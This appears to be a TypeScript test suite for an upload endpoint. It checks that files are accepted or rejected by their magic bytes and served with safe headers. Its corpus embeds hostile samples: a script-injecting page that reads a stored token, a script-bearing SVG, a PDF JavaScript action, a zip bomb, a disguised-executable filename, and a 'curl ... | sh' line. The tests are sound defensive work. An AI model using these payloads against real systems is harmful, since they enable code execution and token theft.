import fs from 'node:fs';
import { ReadableStream } from 'node:stream/web';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { limits } from '../../src/contract/vocabulary/limits';
import { paths } from '../../src/contract/vocabulary/paths';
import type { BooksClient } from '../support/books-client';
import { eventually } from '../support/eventually';
import { heldBytes } from '../support/held-memory';
import { realPng, slipBytes } from '../support/slip-files';
import { RawClient } from '../support/raw-http';
import { TestServer } from '../support/test-server';

let server: TestServer;
let admin: BooksClient;
let cookie: string;
beforeAll(async () => {
  server = await TestServer.start();
  ({ client: admin, slipCookie: cookie } = await server.signIn('admin'));
});
afterAll(() => server.stop());

const newestSlip = async () => {
  const [row] = await server.rows<{ name: string; original_name: string }>(
    'select name, original_name from slips order by uploaded_at desc limit 1',
  );
  return row!;
};
const countSlips = async () => (await server.rows('select from slips')).length;
const open = (slip: string) => server.anonymous.get(`${paths.files}/${slip}`, {}, { cookie });

const page = '<html><script>alert(localStorage.token)</script></html>';
const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const script = '#!/bin/sh\ncurl http://192.0.2.1/ | sh\n';
const pdfProgram = '%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF';
/** Ten megabytes of nothing in ten kilobytes. */
const bomb = Buffer.concat([
  Buffer.from('504b030414000000080000000000', 'hex'),
  deflateRawSync(Buffer.alloc(10 * 1024 * 1024)),
]);
const zip = Buffer.concat([
  Buffer.from('PK\u0003\u0004'),
  Buffer.alloc(40),
  Buffer.from('PK\u0005\u0006'),
  Buffer.alloc(18),
]);
const bytesOf = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const [jpg, png, pdf] = [slipBytes('jpg'), slipBytes('png'), slipBytes('pdf')];

/** What is served as what it is; all else is bytes. */
const shownAs: Readonly<Record<string, string>> = {
  jpg: 'image/jpeg',
  jpeg: 'image/jpeg',
  png: 'image/png',
  pdf: 'application/pdf',
};

/** A file, and what becomes of it: taken is 201, of a wrong name or content 415, empty 400. */
const corpus: [what: string, name: string, bytes: Buffer, status: 201 | 400 | 415][] = [
  ['a picture', 'a.png', realPng, 201],
  ['a picture in capitals', 'A.JPG', jpg, 201],
  ['a picture with the long ending', 'a.jpeg', jpg, 201],
  ['a document', 'a.pdf', pdf, 201],
  ['two endings, the last of them true', 'a.html.png', realPng, 201],
  ['a picture that is a zip too', 'a.jpg', bytesOf(jpg, zip), 201],
  ['a picture that is a page too', 'a.jpg', bytesOf(jpg.subarray(0, 8), page), 201],
  ['a picture with a page in its text', 'a.png', bytesOf(realPng, page), 201],
  ['a picture with a drawing in it', 'a.png', bytesOf(realPng, drawing), 201],
  ['a picture with a shell script in it', 'a.jpg', bytesOf(jpg, script), 201],
  ['a document with a program', 'a.pdf', bytesOf(pdfProgram), 201],
  ['a document that is a page too', 'a.pdf', bytesOf('%PDF-1.4\n', page), 201],
  ['a document that is a zip too', 'a.pdf', bytesOf(pdf, zip), 201],
  ['the eight bytes of a picture and no more', 'a.png', png.subarray(0, 8), 201],
  ['seven bytes of a picture', 'a.png', png.subarray(0, 7), 415],
  ['three bytes of a picture', 'a.jpg', jpg.subarray(0, 3), 415],
  ['nothing', 'a.png', Buffer.alloc(0), 400],
  ['one byte', 'a.pdf', Buffer.alloc(1), 415],
  ['a page', 'a.html', bytesOf(page), 415],
  ['a page said to be a picture', 'a.png', bytesOf(page), 415],
  ['a page said to be a document', 'a.pdf', bytesOf(page), 415],
  ['a drawing', 'a.svg', bytesOf(drawing), 415],
  ['a packed drawing', 'a.svgz', gzipSync(drawing), 415],
  ['a drawing said to be a picture', 'a.jpg', bytesOf(drawing), 415],
  ['a page with a picture after it', 'a.png', bytesOf(page, realPng), 415],
  ['a picture after one space', 'a.png', bytesOf(' ', realPng), 415],
  ['a document after a byte order mark', 'a.pdf', bytesOf('\ufeff', pdf), 415],
  ['a GIF', 'a.gif', bytesOf('GIF89a', jpg), 201],
  ['a GIF said to be a picture we take', 'a.jpg', bytesOf('GIF89a', jpg), 415],
  ['a WebP', 'a.webp', bytesOf('RIFF0000WEBPVP8 '), 201],
  ['a TIFF said to be a JPG', 'a.jpg', bytesOf('II*\u0000', jpg), 415],
  ['a zip bomb', 'a.zip', bomb, 201],
  ['a zip bomb said to be a picture', 'a.png', bomb, 415],
  ['a packed page said to be a document', 'a.pdf', gzipSync(page), 415],
  ['an office document', 'a.docx', zip, 201],
  ['a program of Windows said to be a picture', 'a.jpg', bytesOf('MZ', jpg), 415],
  ['a program of Linux said to be a document', 'a.pdf', bytesOf('\u007fELF', pdf), 415],
  ['a picture that is called a program', 'a.png.exe', realPng, 415],
  ['a PNG said to be a JPG', 'a.jpg', png, 415],
  ['a JPG said to be a document', 'a.pdf', jpg, 415],
  ['a page said to be a text', 'a.txt', bytesOf(page), 201],
  ['a drawing said to be a table', 'a.csv', bytesOf(drawing), 201],
  ['a picture that nobody checks', 'a.heic', bytesOf(drawing), 201],
  ['one byte of a text', 'a.txt', Buffer.alloc(1), 201],
  ['nothing of a text', 'a.txt', Buffer.alloc(0), 400],
  ['an office document with macros', 'a.docm', zip, 415],
  ['a program whose ending is not shown', 'a.exe. ', bytesOf('MZ'), 415],
  ['a program read from right to left', 'a\u202efdp.exe', bytesOf('MZ'), 415],
  ['a shortcut', 'a.url', bytesOf('[InternetShortcut]\r\nURL=file://host/share'), 415],
  ['an image of a disk', 'a.iso', Buffer.alloc(64), 415],
  ['a document of no kind', 'a', pdf, 415],
];

describe('S29: the file', () => {
  it('S29: the corpus has fifty-one of them', () => {
    expect(corpus).toHaveLength(51);
  });

  it.each(corpus)('S29: %s (%s)', async (_what, name, bytes, status) => {
    const before = await countSlips();
    // Whatever the sender says it is.
    const file = new File([Uint8Array.from(bytes)], name, { type: 'text/html' });
    const answer = await admin.createDeposit({}, { slip: file });
    expect(answer.status).toBe(status);
    expect(server.uploads).toEqual([]);
    expect(await countSlips()).toBe(status === 201 ? before + 1 : before);
    if (status !== 201) return;
    const stored = await newestSlip();
    const served = await open(stored.name);
    expect(served.bytes.equals(bytes)).toBe(true);
    const extension = /\.(\w+)$/.exec(name)![1]!.toLowerCase();
    expect(served.headers.get('content-type')).toBe(shownAs[extension] ?? 'application/octet-stream');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toMatch(/; sandbox$/);
    const isPicture = shownAs[extension]?.startsWith('image/') ?? false;
    expect(served.headers.get('content-disposition')).toMatch(isPicture ? /^inline$/ : /^attachment; filename="a\./);
  });

  const signatures: [kind: string, head: string][] = [
    ['png', '89504e470d0a1a0a'],
    ['jpg', 'ffd8ff'],
    ['jpeg', 'ffd8ff'],
    ['pdf', '255044462d'],
  ];
  it.each(signatures)('S29: one wrong bit in any byte that says what a %s is', async (kind, head) => {
    const right = Buffer.concat([Buffer.from(head, 'hex'), Buffer.alloc(16)]);
    const statusOf = async (bytes: Buffer) =>
      (await admin.createDeposit({}, { slip: new File([Uint8Array.from(bytes)], `a.${kind}`) })).status;
    expect(await statusOf(right)).toBe(201);
    for (let place = 0; place < head.length / 2; place += 1) {
      const wrong = Buffer.from(right);
      wrong[place] = right[place]! ^ 1;
      expect([place, await statusOf(wrong)]).toEqual([place, 415]);
    }
  });

  it('S29: a large one that is refused at its first bytes does not hold up the next request of its connection', async () => {
    const client = new RawClient(server.origin, 1);
    const edge = 'e3b0c442';
    const field = (disposition: string) => `--${edge}\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n`;
    const headers = { authorization: `Bearer ${admin.token!}` };
    const upload = Buffer.concat([
      Buffer.from(`${field('name="deposit"')}{}\r\n${field('name="slip"; filename="a.png"')}`),
      Buffer.alloc(limits.slipBytes - 1, 'no picture'),
      Buffer.from(`\r\n--${edge}--\r\n`),
    ]);
    const form = { ...headers, 'content-type': `multipart/form-data; boundary=${edge}` };
    for (let time = 0; time < 3; time += 1) {
      const request = { method: 'POST', address: paths.deposits.create, headers: form, body: upload };
      const refused = await client.send(request);
      const next = await client.send({ method: 'GET', address: paths.accounts.list, headers, body: null });
      expect([refused.status, next.status]).toEqual([415, 200]);
    }
    client.end();
  });

  it('S29: ten of nine megabytes at once take no memory for their size', async () => {
    const mebibyte = 1024 * 1024;
    const [size, held] = [9 * mebibyte, 8 * mebibyte];
    const chunk = Buffer.alloc(64 * 1024);
    const edge = 'e3b0c442';
    const field = (disposition: string) => `--${edge}\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n`;
    const json = JSON.stringify(server.sample.deposit());
    const head = `${field('name="deposit"')}${json}\r\n${field('name="slip"; filename="a.pdf"')}%PDF-1.4`;
    let goOn = (): void => undefined;
    const looked = new Promise<void>((resolve) => (goOn = resolve));
    async function* parts() {
      yield Buffer.from(head);
      for (let sent = 0; sent < size; sent += chunk.length) {
        // What a connection holds back is less than the last of the ten megabytes.
        if (sent === size - chunk.length) await looked;
        yield chunk;
      }
      yield Buffer.from(`\r\n--${edge}--\r\n`);
    }
    const upload = () => {
      const headers = { 'content-type': `multipart/form-data; boundary=${edge}` };
      const body = ReadableStream.from(parts());
      return admin.call('POST', paths.deposits.create, { body, headers, duplex: 'half' } as RequestInit);
    };
    const before = heldBytes();
    const answers = Promise.all(Array.from({ length: 10 }, upload));
    const arrived = () => server.uploads.filter((file) => fs.statSync(file).size >= held).length;
    expect(await eventually(() => Promise.resolve(arrived()), 10)).toBe(10);
    expect(heldBytes() - before).toBeLessThan(32 * mebibyte);
    goOn();
    expect((await answers).map(({ status }) => status)).toEqual(Array(10).fill(201));
    expect(server.uploads).toEqual([]);
  });
});
